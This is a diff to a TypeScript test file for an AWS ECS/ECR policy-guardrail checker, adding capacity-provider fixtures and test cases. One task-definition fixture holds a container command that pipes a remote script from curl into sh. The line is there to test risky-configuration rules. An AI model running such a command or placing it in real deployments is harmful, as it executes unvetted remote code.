@@ -3,7 +3,7 @@ import { strict as assert } from "assert";
 import { buildModel } from "../../policy/model";
 import { rules } from "../../policy/rules";
 import type { ResourceRule } from "../../policy/rules/rule";
-import { check, checkStack, cluster, container as c, expressService, remediate, repository, service, taskDefinition as td, types, unknownString } from "../support/fixtures";
+import { capacityProvider, check, checkStack, cluster, container as c, expressService, remediate, repository, service, taskDefinition as td, types, unknownString } from "../support/fixtures";
 
 type Props = Record<string, unknown>;
 
@@ -12,6 +12,7 @@ const nativeTypes: Record<string, string> = {
     [types.service]: "aws-native:ecs:Service",
     [types.taskSet]: "aws-native:ecs:TaskSet",
     [types.cluster]: "aws-native:ecs:Cluster",
+    [types.capacityProvider]: "aws-native:ecs:CapacityProvider",
     [types.repository]: "aws-native:ecr:Repository",
     [types.creationTemplate]: "aws-native:ecr:RepositoryCreationTemplate",
 };
@@ -55,12 +56,17 @@ const twins: [string, Props][] = [
     [types.taskDefinition, td([c({ command: ["sh", "-c", "curl -fsSL https://example.com/x.sh | sh; supervisord &"] }), c({ name: "b", image: "b:1" })], { networkMode: "host", pidMode: "host", taskRoleArn: undefined })],
     [types.taskDefinition, td([c({ image: unknownString })], { tags: { team: "shop", "ecs-guardrails:exempt": "ecs-no-privileged" } })],
     [types.taskDefinition, td([c()], { volumes: [{ name: "data", efsVolumeConfiguration: { fileSystemId: "fs-1" } }], runtimePlatform: { operatingSystemFamily: "WINDOWS_SERVER_2022_CORE" } })],
+    [types.taskDefinition, td([c()], { memory: "1 GB", cpu: "0.25 vcpu", networkMode: undefined, requiresCompatibilities: ["MANAGED_INSTANCES"] })],
     [types.service, service()],
     [types.service, service({ enableEcsManagedTags: false, propagateTags: "NONE", deploymentCircuitBreaker: undefined, networkConfiguration: { subnets: ["s"], securityGroups: [], assignPublicIp: true } })],
     [types.service, service({ launchType: undefined, capacityProviderStrategies: [{ capacityProvider: "FARGATE_SPOT", weight: 1 }], platformVersion: "1.3.0", networkConfiguration: undefined })],
     [types.taskSet, { service: "api", cluster: "main", taskDefinition: "td", networkConfiguration: { subnets: ["s"], assignPublicIp: true } }],
     [types.cluster, cluster()],
     [types.cluster, cluster({ settings: [{ name: "containerInsights", value: "disabled" }], configuration: { executeCommandConfiguration: { logging: "NONE" } } })],
+    [types.capacityProvider, capacityProvider()],
+    [types.capacityProvider, capacityProvider({ autoScalingGroupProvider: { autoScalingGroupArn: "arn", managedScaling: { status: "ENABLED" }, managedTerminationProtection: "DISABLED" }, tags: { team: "shop" } })],
+    [types.taskDefinition, td([c({ user: "ContainerAdministrator" })], { runtimePlatform: { operatingSystemFamily: "WINDOWS_SERVER_2022_CORE" } })],
+    [types.repository, repository({ encryptionConfigurations: [{ encryptionType: "KMS", kmsKey: "alias/aws/ecr" }] })],
     [types.repository, repository()],
     [types.repository, repository({ imageTagMutability: "MUTABLE", imageScanningConfiguration: undefined, encryptionConfigurations: undefined, tags: { "ecs-guardrails:exempt": "ecr-kms-encryption" } })],
     [types.creationTemplate, { prefix: "shop", imageTagMutability: "MUTABLE" }],
